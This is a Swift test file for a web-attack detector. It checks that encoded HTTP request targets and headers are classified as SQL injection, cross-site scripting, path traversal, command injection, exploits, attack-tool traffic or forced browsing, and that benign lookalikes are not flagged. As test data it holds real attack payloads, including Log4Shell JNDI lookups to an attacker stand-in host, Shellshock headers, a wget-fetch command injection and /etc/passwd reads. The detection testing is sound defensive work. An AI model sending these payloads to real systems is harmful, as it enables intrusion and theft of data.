import Testing
@testable import AppLayer
import Decoding

@Suite struct WebAttackContentTests {
    func families(_ target: String) -> WebAttackFamilies { WebAttackContent.families(in: target.utf8) }

    // Payloads as the common injection cheat sheets and tools write them,
    // in the encodings clients send (form encoding, percent-escapes, double escapes).
    @Test(arguments: [
        "/dvwa/vulnerabilities/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit",
        "/item.php?id=1%27%20UNION%20SELECT%20NULL%2C%20version%28%29%20%23",
        "/item.php?id=-1+union+all+select+1,2,group_concat(table_name)+from+information_schema.tables",
        "/login?user=admin%27--&pass=x",
        "/login?user=admin%27%23&pass=x",
        "/p?id=1)%20or%20(1=1",
        "/p?id=1%20AND%20SLEEP(5)",
        "/p?id=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20-",
        "/p?id=1;%20DROP%20TABLE%20users",
        "/p?q=%22%20or%20%22%22%3D%22",
        "/p?id=1%2527%2520OR%25201%253D1",      // doubly encoded
        "/p?id=1'/**/UnIoN/**/SeLeCt/**/1,2,3",   // comments as spaces, mixed case
        "/p?id=1%20or%201%3D1",
        "/api/query?cat=1%29+OR+%281%3D1",
        "/p?id=1';waitfor%20delay%20'0:0:5'--",
    ])
    func sqlInjection(_ target: String) {
        #expect(families(target).contains(.sqlInjection), "\(target)")
    }

    @Test(arguments: [
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E",
        "/search?q=%3Csvg%2Fonload%3Dalert(1)%3E",
        "/redirect?to=javascript:alert(1)",
        "/p?name=%27%3E%3Ciframe%20src%3D%2F%2Fevil%3E",
        "/p?x=%3Cbody%20onload%3Dalert(1)%3E",
    ])
    func crossSiteScripting(_ target: String) {
        #expect(families(target).contains(.crossSiteScripting), "\(target)")
    }

    @Test(arguments: [
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2fetc%2fshadow",
        "/download?file=....//....//etc/hosts",
        "/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
        "/view?page=..%5c..%5c..%5cboot.ini",
        "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
        "/static/..%252f..%252f..%252fetc%252fpasswd",
    ])
    func pathTraversal(_ target: String) {
        #expect(families(target).contains(.pathTraversal), "\(target)")
    }

    @Test(arguments: [
        "/ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd",
        "/ping?host=127.0.0.1%7Cid",
        "/index.php?id=%7Cid",
        "/ping?host=%60uname+-a%60",
        "/ping?host=%24(wget+http%3A%2F%2Fx%2Fs.sh)",
        "/ping?host=x+%26%26+whoami",
        "/cgi-bin/test.cgi?x=1;ls%20-la",
    ])
    func commandInjection(_ target: String) {
        #expect(families(target).contains(.commandInjection), "\(target)")
    }

    /// Ordinary request-targets with the characters and words attacks use:
    /// none is an attack.
    @Test(arguments: [
        "/search?q=%22apple%22+OR+%22pear%22",               // a search engine's OR of quoted phrases
        "/search?q=rock+%27n%27+roll",
        "/search?q=O%27Brien+and+sons",
        "/search?q=it%27s+a+5+or+6+star+hotel",
        "/search?q=select+the+best+union+jobs",               // words, no SQL
        "/api/items?fields=name;id;price",                     // field lists
        "/api/items?sort=name|id",
        "/wiki/Pipe_(Unix)?action=view&cat=shell",
        "/docs/guide.html#section-2",
        "/search?q=a+%3C+b+and+c+%3E+d",                     // comparisons in prose
        "/search?q=c%2B%2B+templates",
        "/static/js/app.min.js?v=3.2.1",
        "/blog/2024/05/why-i-sleep-(a-lot)",
        "/img/logo.svg?size=64",
        "/files/report%20final%20(2).pdf",
        "/search?q=%22quoted%22+and+more",
        "/api/v2/users?filter=age%3E30%20and%20city%3D%22Paris%22",
        "/search?q=1+or+2+bedrooms",
        "/path/to/./file",
        "/odata/Products?$filter=Price%20gt%2020%20and%20Name%20eq%20%27Milk%27",
        "/api?where=name%3D%27x%27+and+id%3D5",
        "/search?q=%22hello%22+--+world",
    ])
    func ordinaryTargetsAreNotAttacks(_ target: String) {
        #expect(families(target).isEmpty, "\(target): \(families(target).names)")
    }

    @Test(arguments: [
        "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "/?x=${${lower:j}ndi:${lower:l}dap://x/a}",
        "/cgi-bin/status?x=()%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fcat%20%2Fetc%2Fpasswd",
        "/index.action?redirect:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%2C%23_memberAccess%3Dx%7D",
        "/index.php?-d+allow_url_include%3D1+-d+auto_prepend_file%3Dphp%3A%2F%2Finput",
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    ])
    func exploits(_ target: String) {
        #expect(families(target).contains(.exploit), "\(target)")
    }

    @Test func exploitsInAnyHeaderAreFound() throws {
        let i = try #require(http("GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"
            + "GET /cgi-bin/test HTTP/1.1\r\nHost: h\r\nReferer: () { :; }; echo; /bin/id\r\n\r\n"
            + "GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\nCookie: a=${x}\r\n\r\n"))
        #expect(i.transactions.map(\.webAttack) == [[.exploit], [.exploit], []])
    }

    @Test func attackToolsAreKnownByTheirUserAgent() {
        #expect(WebAttackContent.attackTool(userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)"))
        #expect(WebAttackContent.attackTool(userAgent: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"))
        #expect(WebAttackContent.attackTool(userAgent: "Fuzz Faster U Fool v2.1.0-dev"))
        // A port scanner's HTTP probes are the scan's (the scanning behaviour names them).
        #expect(!WebAttackContent.attackTool(userAgent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
        #expect(!WebAttackContent.attackTool(userAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"))
        #expect(!WebAttackContent.attackTool(userAgent: "curl/8.5.0"))
    }

    func http(_ client: String) -> HTTPInfo? {
        let c = Array(client.utf8), s: [UInt8] = []
        return c.withUnsafeBytes { cb in s.withUnsafeBytes { sb in HTTPParser.parse(client: ByteView(cb), server: ByteView(sb)) } }
    }

    @Test func theParserInspectsTargetsFormBodiesAndUserAgentsOfEveryRequest() throws {
        let body = "user=admin%27+OR+1%3D1--+-&pass=x"
        let i = try #require(http(
            "GET /a HTTP/1.1\r\nHost: h\r\n\r\n"
                + "POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\n"
                + "Content-Length: \(body.utf8.count)\r\n\r\n\(body)"
                + "GET /x?f=../../etc/passwd HTTP/1.1\r\nHost: h\r\nUser-Agent: sqlmap/1.7\r\n\r\n"))
        #expect(i.requestCount == 3)
        #expect(i.transactions.map(\.webAttack) == [[], [.sqlInjection], [.pathTraversal, .attackTool]])
        #expect(i.webAttack == [.sqlInjection, .pathTraversal, .attackTool] && i.webAttackRequests == 2)
    }

    @Test func aBodyThatIsNotAFormIsNotReadAsParameters() throws {
        let body = "{\"q\": \"' or '1'='1\"}"
        let i = try #require(http(
            "POST /api HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)"))
        #expect(i.webAttack.isEmpty && i.webAttackRequests == 0)
    }

    func exchange(_ targets: [String], statuses: [Int]) -> HTTPInfo? {
        let client = targets.map { "GET \($0) HTTP/1.1\r\nHost: h\r\n\r\n" }.joined()
        let server = statuses.map { "HTTP/1.1 \($0) X\r\nContent-Length: 2\r\n\r\nok" }.joined()
        let c = Array(client.utf8), s = Array(server.utf8)
        return c.withUnsafeBytes { cb in s.withUnsafeBytes { sb in HTTPParser.parse(client: ByteView(cb), server: ByteView(sb)) } }
    }

    @Test func aConnectionOfMissesIsForcedBrowsing() throws {
        let paths = ["/admin", "/.git/config", "/.env", "/backup.zip", "/wp-login.php", "/phpmyadmin", "/server-status",
                     "/db.sql", "/old", "/test", "/index.html"]
        let guessed = try #require(exchange(paths, statuses: Array(repeating: 404, count: 8) + [403, 404, 200]))
        #expect(guessed.missResponses == 10 && guessed.webAttack == [.forcedBrowsing] && guessed.webAttackRequests == 10)
        // A page whose assets are mostly there: a few misses are no guessing.
        let page = try #require(exchange((0..<20).map { "/asset\($0).png" },
                                         statuses: Array(repeating: 200, count: 13) + Array(repeating: 404, count: 7)))
        #expect(page.missResponses == 7 && page.webAttack.isEmpty)
        // Many misses among many hits (a crawler's stale links on a busy connection): under half.
        let crawl = try #require(exchange((0..<20).map { "/p\($0)" },
                                          statuses: Array(repeating: 200, count: 11) + Array(repeating: 404, count: 9)))
        #expect(crawl.missResponses == 9 && crawl.webAttack.isEmpty)
    }

    @Test func missedPathsAreCountedOncePerPathWhateverTheQuery() throws {
        // One path asked three ways (query, fragment), all missed: one bit.
        let same = try #require(exchange(["/x?a=1", "/x?a=2", "/x#top"], statuses: [404, 404, 403]))
        #expect(same.missResponses == 3 && same.missedPaths.nonzeroBitCount == 1)
        // A hit sets no bit: only /y's miss counts, the same bit as /y missed alone.
        let mixed = try #require(exchange(["/x", "/y"], statuses: [200, 404]))
        let alone = try #require(exchange(["/y?z"], statuses: [404]))
        #expect(mixed.missedPaths.nonzeroBitCount == 1 && mixed.missedPaths == alone.missedPaths)
        // Thirty distinct guesses set many bits (64 bits, so some collide).
        let guesses = try #require(exchange((0..<30).map { "/guess\($0)" }, statuses: Array(repeating: 404, count: 30)))
        #expect(guesses.missedPaths.nonzeroBitCount >= 18)
    }

    @Test func aBuildToolsMissesAreNoForcedBrowsing() throws {
        // Maven asking a repository that does not hold the build's artifacts: 404 after 404.
        let paths = (0..<10).map { "/maven2/org/lib\($0)/lib\($0)/1.0/lib\($0)-1.0.pom" }
        let client = paths.map { "GET \($0) HTTP/1.1\r\nHost: repo\r\nUser-Agent: Apache-Maven/3.9.6 (Java 17.0.9; Linux 6.1.0)\r\n\r\n" }.joined()
        let server = String(repeating: "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n", count: 10)
        let c = Array(client.utf8), s = Array(server.utf8)
        let i = try #require(c.withUnsafeBytes { cb in s.withUnsafeBytes { sb in HTTPParser.parse(client: ByteView(cb), server: ByteView(sb)) } })
        #expect(i.missResponses == 10 && i.artifactClient && i.webAttack.isEmpty)
        #expect(WebAttackContent.artifactClient(userAgent: "Debian APT-HTTP/1.3 (2.6.1)"))
        #expect(!WebAttackContent.artifactClient(userAgent: "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"))
        #expect(!WebAttackContent.artifactClient(userAgent: "gobuster/3.6"))
    }

    @Test func requestsBeyondTheKeptOnesAreCounted() throws {
        var client = ""
        for k in 0..<(HTTPInfo.transactionCapacity + 4) {
            let target = k >= HTTPInfo.transactionCapacity ? "/p?id=\(k)%27+or+%271%27%3D%271" : "/p?id=\(k)"
            client += "GET \(target) HTTP/1.1\r\nHost: h\r\n\r\n"
        }
        let i = try #require(http(client))
        #expect(i.transactions.allSatisfy { $0.webAttack.isEmpty })
        #expect(i.webAttack == [.sqlInjection] && i.webAttackRequests == 4)
    }
}
